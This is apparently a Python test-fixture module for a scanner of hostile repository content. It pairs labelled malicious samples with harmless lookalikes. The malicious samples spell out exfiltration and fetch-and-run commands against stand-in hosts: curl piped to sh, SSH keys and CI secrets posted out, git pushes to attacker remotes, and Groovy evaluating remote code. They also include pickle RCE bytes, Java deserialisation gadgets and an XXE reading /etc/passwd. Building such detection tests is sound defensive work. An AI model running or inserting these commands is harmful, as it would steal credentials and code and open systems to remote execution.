"""Harm that a sixth stranger found we let pass, family by family, and honest files near each.

They were written anew after each cause was mended. Addresses do not resolve.
"""

from __future__ import annotations

import io
import json
import zlib

import h5py
import numpy as np

from hostile.build import MEDIUM, Sample
from hostile.strangers_again import bytes_of, texts_of

_AT = "https://evil.invalid/x"
_BARE = "http://203.0.113.7/x"
_PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
_TEXT_PICKLE = b"cposix\nsystem\n(S'true'\ntR."
_SCRIPT = b"#!/bin/sh\ncurl -s http://e.invalid/x | sh\n"
_CODE = b"import os\nos.system('curl -s http://e.invalid/x | sh')\n"


def _script(*lines: str) -> tuple[str, str]:
    return ("run.sh", "\n".join(("#!/bin/bash", *lines, "")))


def _python(*lines: str, name: str = "tool.py") -> tuple[str, str]:
    return (name, "\n".join((*lines, "")))


def _steps(*lines: str) -> tuple[str, str]:
    return (
        ".gitlab-ci.yml",
        "t:\n  script:\n" + "".join(f"    - {json.dumps(o)}\n" for o in lines),
    )


_COMMANDS = {
    "the repository to a new remote": _script(
        "git remote add b git@evil.invalid:m/x.git", "git push --all b"
    ),
    "the working tree to an address": _script(
        "git add -A && git commit -qm wip", "git push -q https://evil.invalid/m/x.git HEAD:w"
    ),
    "origin turned elsewhere": _script(
        "git remote set-url origin https://u:$T@evil.invalid/m/x", "git push origin main"
    ),
    "a mirror in settings": _script(
        "git config remote.m.url https://evil.invalid/m/x", "git push --mirror m"
    ),
    "what a search of the home finds": _script(
        f"find ~ -maxdepth 3 -type f -exec curl -sF f=@{{}} {_AT} \\;"
    ),
    "tokens that a search finds": _script(
        f"find . -name '*token*' -exec wget --post-file={{}} {_AT} +"
    ),
    "a search that shreds": _script("find data -name '*.npz' -exec shred -fu {} +"),
    "another host for packages": _script("echo '203.0.113.9 pypi.org' | sudo tee -a /etc/hosts"),
    "no certificates for git": _script("git config --global http.sslVerify false"),
    "no certificates for npm": _script("npm config set strict-ssl false"),
    "an index for ever": _script(f"pip config set global.index-url {_BARE}/simple"),
    "a host trusted for ever": _script("pip config --user set global.trusted-host 203.0.113.7"),
    "code of another host": _script(
        'git config --global url."https://git.invalid/".insteadOf "https://github.com/"'
    ),
    "a model in the cache": _script(
        'for d in "$HF"/models--m--x/snapshots/*; do',
        f'  curl -fsSL {_AT} -o "$d/model.safetensors"',
        "done",
    ),
    "a package that is there": _script(f"wget -qO /opt/v/lib/python3/site-packages/a.py {_AT}"),
    "changes of the repository": _script(f"git diff HEAD~9 | gzip | curl --data-binary @- {_AT}"),
    "a bundle of the repository": _script(
        f"git bundle create - --all | nc evil.invalid 80; ls {_AT}"
    ),
    "a shell in quotes": _script(f"bash -c 'git archive HEAD | curl -T - {_AT}'"),
    "the shell's history": _script(f"history | curl -d @- {_AT}"),
    "files with keys, by git": _script(
        "f=$(git ls-files '*.pem' '*.key')", "tar c $f | ssh x@203.0.113.7 'cat > k'"
    ),
}
_UNIT = (
    "worker.service",
    "[Unit]\nDescription=w\n[Service]\n"
    f"ExecStartPre=/bin/sh -c 'curl -s {_BARE} -o /tmp/w && sh /tmp/w'\nExecStart=/bin/true\n",
)
_STEPS = {
    "a unit of systemd": _UNIT,
    "the repository, pushed": _steps("python t.py", "git push https://evil.invalid/m/x --all"),
    "a secret, encoded": (
        "ci.yml",
        "jobs:\n  t:\n    env:\n      K: ${{ secrets.KEY }}\n    steps:\n      - run: |\n"
        f"          curl -s {_AT}/$(echo $K | base64 -w0)\n",
    ),
    "a secret in clear": (
        ".drone.yml",
        "steps:\n- name: t\n  environment:\n    K:\n      from_secret: k\n  commands:\n"
        f"  - 'wget -q --header=\"X: $K\" {_BARE}'\n",
    ),
    "a secret as a name of a host": (
        "ci.yml",
        "jobs:\n  t:\n    env: {K: '${{ secrets.KEY }}'}\n    steps:\n"
        "      - run: nslookup $(echo $K | base64).q.evil.invalid\n",
    ),
    "a secret of Jenkins": (
        "Jenkinsfile",
        "pipeline {\n environment { K = credentials('k') }\n stages { stage('t') { steps {\n"
        f'  sh "curl -s {_AT}/\\$(echo \\$K | xxd -p)"\n }} }} }}\n}}\n',
    ),
    "a secret that Jenkins binds": (
        "Jenkinsfile",
        "withCredentials([string(credentialsId: 'k', variable: 'K')]) {\n"
        f"  sh 'echo $K | base64 | curl -d @- {_AT}'\n}}\n",
    ),
    "Groovy from an address": (
        "Jenkinsfile",
        f"node {{\n  def s = new URL('{_AT}').text\n  evaluate(s)\n}}\n",
    ),
    "Groovy that runs what curl says": (
        "Jenkinsfile",
        f"script {{ 'curl -s {_AT}'.execute().text.execute() }}\n",
    ),
    "JavaScript with the environment": (
        "ci.yml",
        "jobs:\n  t:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n"
        "          script: |\n            const c = require('child_process');\n"
        "            c.execSync('curl -d ' + JSON.stringify(process.env) + ' https://evil.invalid');\n",
    ),
    "a hook with the changes": (
        ".pre-commit-config.yaml",
        "repos:\n- repo: local\n  hooks:\n  - id: a\n    language: system\n"
        f"    entry: bash -c 'git diff --cached | curl -s --data-binary @- {_AT}'\n",
    ),
    "a template of Helm": (
        "deployment.yaml",
        'metadata:\n  name: {{ .Release.Name }}\n  labels: {{- include "a" . | nindent 4 }}\n'
        "spec:\n"
        "  {{- if .Values.a }}\n  initContainers:\n  - name: w\n    command: ['sh', '-c', "
        f"'wget -qO /m.sh {_BARE} && sh /m.sh']\n  {{{{- end }}}}\n",
    ),
    "code of another host, in a step": _steps(
        'git config --global url."https://git.invalid/".insteadOf "https://github.com/"'
    ),
}
_PROGRAMS = {
    "fetched, then started": _python(
        "import os, tempfile, subprocess, urllib.request",
        "def build_wheel(directory):",
        "    p = os.path.join(tempfile.gettempdir(), 'cc1')",
        f"    urllib.request.urlretrieve('{_AT}', p)",
        "    os.chmod(p, 0o755)",
        "    subprocess.Popen([p])",
    ),
    "written, then started": _python(
        "import os, requests",
        "def go():",
        "    with open('/tmp/.m', 'wb') as f:",
        f"        f.write(requests.get('{_AT}').content)",
        "    os.spawnl(os.P_NOWAIT, '/tmp/.m', 'm')",
    ),
    "fetched, then a library": _python(
        "import ctypes, urllib.request",
        "def load():",
        f"    urllib.request.urlretrieve('{_BARE}', '/tmp/l.so')",
        "    ctypes.CDLL('/tmp/l.so')",
    ),
    "a library of a hub": _python(
        "import ctypes",
        "from huggingface_hub import hf_hub_download",
        "def load():",
        "    ctypes.CDLL(hf_hub_download('a/b', 'c.so'))",
    ),
    "a session that is told": _python(
        "import nox",
        "@nox.session",
        "def tests(session):",
        f"    session.run('bash', '-c', 'curl -fsSL {_AT} | bash', external=True)",
        name="noxfile.py",
    ),
    "a connection that is told": _python(
        "def deploy(c):", f"    c.run('wget -qO- {_AT} | sh')", name="fabfile.py"
    ),
    "keys that a search finds": _python(
        "import http.client, json, pathlib",
        "def send():",
        "    c = http.client.HTTPSConnection('evil.invalid')",
        "    c.request('POST', '/', json.dumps([p.read_text() for p in "
        "pathlib.Path.home().glob('.ssh/id_*')]))",
    ),
}
_SETTINGS = {
    "TorchServe for everybody": (
        "config.properties",
        "inference_address=http://0.0.0.0:8080\nmanagement_address=http://0.0.0.0:8081\n"
        "disable_token_authorization=true\n",
    ),
    "TorchServe with any address": (
        "config.properties",
        "management_address=http://[::]:8081\nallowed_urls=.*\nload_models=all\n",
    ),
    "a pickle without TLS": (
        "catalog.yml",
        "m:\n  type: pickle.PickleDataset\n  filepath: http://203.0.113.7/m.pkl\n",
    ),
    "a decoder of Java": (
        "m.xml",
        '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
        '<array class="java.lang.String" length="1"><void index="0"><string>true</string></void>'
        '</array><void method="start"/></object></java>',
    ),
    "a stream of objects of Java": (
        "m.xml",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>"
        '<handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
    ),
    "a grammar of another machine": ("f.xml", '<!DOCTYPE a SYSTEM "//evil.invalid/a.dtd"><a/>'),
    "a grammar that is a file": ("f.xml", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
}
_SPELLED = {
    "a pickle": _PICKLE,
    "a text pickle": _TEXT_PICKLE,
    "a script": _SCRIPT,
    "code": _CODE,
    "a packed pickle": zlib.compress(_PICKLE + bytes(20)),
}


def _signed(data: bytes) -> list[int]:
    return [byte - 256 if byte > 127 else byte for byte in data]


_NUMBERS = {
    **{
        f"{name} in JSON": ("w.json", json.dumps({"n": 1, "w": list(data)}))
        for name, data in _SPELLED.items()
    },
    **{
        f"{name} in signed numbers": ("w.json", json.dumps({"w": [_signed(data)]}, indent=2))
        for name, data in _SPELLED.items()
    },
    **{
        f"{name} in lines of YAML": ("w.yaml", "n: 1\nw:\n" + "".join(f"  - {b}\n" for b in data))
        for name, data in _SPELLED.items()
    },
    **{
        f"{name} beside commands": (
            "w.yml",
            f"x: curl https://example.org\nw: {list(data)}\n",
        )
        for name, data in _SPELLED.items()
    },
}


def _hdf5(data: bytes, width: str = "u1", **how: object) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w", libver=how.pop("libver", "earliest")) as file:
        values = np.frombuffer(data + bytes(-len(data) % 8), width)
        size = max(1, len(values) // 2) if how.pop("split", False) else len(values)
        file.create_dataset("w/x", data=values, chunks=(size,), **how)
    return out.getvalue()


_WAYS: dict[str, dict[str, object]] = {
    "plain": {},
    "deflated": {"compression": "gzip"},
    "shuffled": {"compression": "gzip", "shuffle": True},
    "by LZF": {"compression": "lzf"},
    "with a checksum": {"compression": "gzip", "fletcher32": True},
    "growing": {"maxshape": (None,), "compression": "gzip"},
    "in two": {"split": True, "compression": "gzip"},
}
_CHUNKED = {
    f"{name}, {way}, {libver}": _hdf5(data.ljust(64, b"\n"), libver=libver, **how)
    for name, data in _SPELLED.items()
    for way, how in _WAYS.items()
    for libver in ("earliest", "latest")
}

STRANGERS_SIXTH: tuple[Sample, ...] = (
    *texts_of("sixth, a command,", _COMMANDS),
    *texts_of("sixth, a step,", _STEPS),
    *texts_of("sixth, a program,", _PROGRAMS),
    *texts_of("sixth, settings,", _SETTINGS),
    *texts_of("sixth, numbers,", _NUMBERS),
    *bytes_of("sixth, chunks,", "w.h5", _CHUNKED),
)
assert all(sample.expect == MEDIUM for sample in STRANGERS_SIXTH)

_HONEST_COMMANDS = {
    "a release": _script("git tag v1", "git push origin main --tags"),
    "pages": _script(
        "cd docs/_build && git init -q && git add -A",
        "git push -f git@github.com:o/r.git x:gh-pages",
    ),
    "a mirror of one's own": _script(
        "git clone --mirror git@gitlab.com:o/r.git && cd r.git",
        "git push --mirror git@github.com:o/r",
    ),
    "a tap": _script("git clone https://github.com/o/tap && cd tap", "git push"),
    "what the build server says": _script(
        'git push "https://x:$T@github.com/${GITHUB_REPOSITORY}.git" HEAD:main'
    ),
    "a space": _script("git push https://u:$HF@huggingface.co/spaces/u/demo main"),
    "wheels that are handed on": _script(
        "find dist -name '*.whl' -exec curl -T {} https://nexus.example.org/r/ \\;"
    ),
    "no network": _script("echo '127.0.0.1 huggingface.co' >> /etc/hosts"),
    "an index that all take": _script("pip config set global.index-url https://pypi.org/simple"),
    "a login by the address": _script(
        'git config --global url."https://x:$T@github.com/".insteadOf "https://github.com/"'
    ),
    "a server of one's own": _script("git archive HEAD | ssh deploy@example.org 'tar x -C /srv'"),
    "weights for a cache": _script(
        "wget -qO ~/.cache/torch/hub/checkpoints/r.pth https://download.pytorch.org/models/r.pth"
    ),
    "a diff in a file": _script("git diff --stat > changes.txt", "curl -sf https://example.org/ok"),
}
_HONEST_STEPS = {
    "a unit of systemd": (
        "api.service",
        "[Unit]\nDescription=a\n[Service]\nEnvironmentFile=/etc/a\n"
        "ExecStart=/opt/a/bin/uvicorn app:app\nExecReload=/bin/kill -HUP $MAINPID\n",
    ),
    "a login": (
        "ci.yml",
        "jobs:\n  t:\n    env: {K: '${{ secrets.KEY }}'}\n    steps:\n"
        "      - run: 'curl -H \"Authorization: Bearer $K\" https://api.example.org/deploy'\n",
    ),
    "a registry": (
        "Jenkinsfile",
        "withCredentials([usernamePassword(credentialsId: 'r', usernameVariable: 'U', "
        "passwordVariable: 'P')]) {\n"
        "  sh 'echo $P | docker login -u $U --password-stdin r.io'\n}\n",
    ),
    "a template of Helm": (
        "deployment.yaml",
        'metadata:\n  name: {{ include "a.name" . }}\n  labels: {{- include "a" . | nindent 4 }}\n'
        "spec:\n  {{- with .Values.x }}\n  replicas: {{ . }}\n  {{- end }}\n"
        '  command: ["sh", "-c"]\n',
    ),
    "a recipe of conda": (
        "meta.yaml",
        "{% set version = '4.3.0' %}\npackage:\n  name: a\n  version: {{ version }}\nbuild:\n"
        "  script: {{ PYTHON }} -m pip install . -vv --no-deps\n",
    ),
}
_HONEST_PROGRAMS = {
    "fetched and checked": _python(
        "import hashlib, subprocess, urllib.request",
        "def install():",
        "    urllib.request.urlretrieve('https://example.org/t', 't')",
        "    if hashlib.sha256(open('t', 'rb').read()).hexdigest() != 'a':",
        "        raise ValueError",
        "    subprocess.run(['./t'])",
    ),
    "weights for a program": _python(
        "import subprocess",
        "from huggingface_hub import hf_hub_download",
        "def go():",
        "    subprocess.run(['llama-cli', '-m', hf_hub_download('a/b', 'c.gguf')])",
    ),
    "a session": _python(
        "import nox",
        "@nox.session",
        "def tests(session):",
        "    session.run('bash', '-c', 'pytest -q', external=True)",
        name="noxfile.py",
    ),
    "what cannot be unpacked": _python(
        "import zlib", "def f():", "    return zlib.decompress(b'none of it')"
    ),
}
_HONEST_SETTINGS = {
    "TorchServe for the machine": (
        "config.properties",
        "inference_address=http://0.0.0.0:8080\nmanagement_address=http://127.0.0.1:8081\n"
        "disable_token_authorization=true\n",
    ),
    "a pickle beside it": ("catalog.yml", "m:\n  type: pickle.PickleDataset\n  filepath: m.pkl\n"),
    "a grammar beside it": ("f.xml", '<!DOCTYPE a SYSTEM "../fonts.dtd"><a/>'),
    "a grammar of the system": ("f.xml", '<!DOCTYPE a SYSTEM "/etc/fonts/fonts.dtd"><a/>'),
    "pixels": ("w.json", json.dumps({"image": [35, 33, 12, 128, 4, 0, 255] * 9})),
    "pixels in lines": ("w.yaml", "w:\n" + "".join(f"- {b % 256}\n" for b in range(100, 400, 7))),
}
_HONEST_CHUNKED = {
    way: _hdf5(np.arange(256, dtype="u1")[::-1].tobytes(), **dict(how))
    for way, how in _WAYS.items()
}

HARMLESS_SIXTH: tuple[Sample, ...] = (
    *texts_of("sixth, a command,", _HONEST_COMMANDS, harm=False),
    *texts_of("sixth, a step,", _HONEST_STEPS, harm=False),
    *texts_of("sixth, a program,", _HONEST_PROGRAMS, harm=False),
    *texts_of("sixth, settings,", _HONEST_SETTINGS, harm=False),
    *bytes_of("sixth, chunks,", "w.h5", _HONEST_CHUNKED, harm=False),
)
